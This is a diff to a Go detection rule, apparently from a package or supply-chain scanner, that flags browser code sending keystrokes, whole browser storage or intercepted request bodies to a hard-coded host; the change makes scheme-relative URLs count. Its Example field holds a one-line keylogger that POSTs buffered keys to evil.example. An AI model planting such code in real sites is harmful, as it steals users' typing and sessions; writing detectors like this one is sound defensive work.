@@ -20,14 +20,14 @@ type PageExfil struct{}
 // Meta implements analyze.Rule.
 func (PageExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/page-exfil", Version: 5, Title: "Sends what users type or store to a hard-coded host",
+		ID: "browser/page-exfil", Version: 6, Title: "Sends what users type or store to a hard-coded host",
 		Help: "Browser code sends page data to a constant URL on a host that is neither local nor a known CDN or registry: keystrokes " +
 			"buffered by a keydown/keypress/keyup listener on the page (a keylogger; a shortcut handler compares keys, it does not keep " +
 			"them), the whole of localStorage or sessionStorage enumerated (session tokens and wallet state; a storage library reads its " +
 			"own keys; a store held in a variable and read key by key with key(i) and getItem(k) counts), or the bodies of requests a service worker intercepts in its fetch handler. In a multi-megabyte bundle the pieces " +
 			"must sit close together, and so in any file over 64 KiB (within 2,000 bytes). A whole store enumerated by a file (not a " +
 			"bundle) that also reads document.cookie is critical: " +
-			"the sessions of every user of the site.",
+			"the sessions of every user of the site. A URL written without a scheme (//host/p) takes the page's and counts as that host.",
 		Remediation:     "Remove the package from any site build, rotate the sessions and tokens of users who loaded it, and check which builds shipped it.",
 		Example:         `document.addEventListener("keydown", e => buf.push(e.key)); setInterval(() => fetch("https://evil.example/k", { method: "POST", body: buf.join("") }), 5000)`,
 		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigCred, Needs: analyze.NeedCode,
@@ -98,7 +98,7 @@ func externalDest(t *analyze.Target, f *jsast.Facts) (string, jsast.Pos, string)
 		if a == nil {
 			continue
 		}
-		if u := rulekit.ExternalURL(t, rulekit.Text(*a)); u != "" {
+		if u := rulekit.ExternalURL(t, pageScheme(rulekit.Text(*a))); u != "" {
 			return u, c.Pos, c.Snippet.String()
 		}
 	}
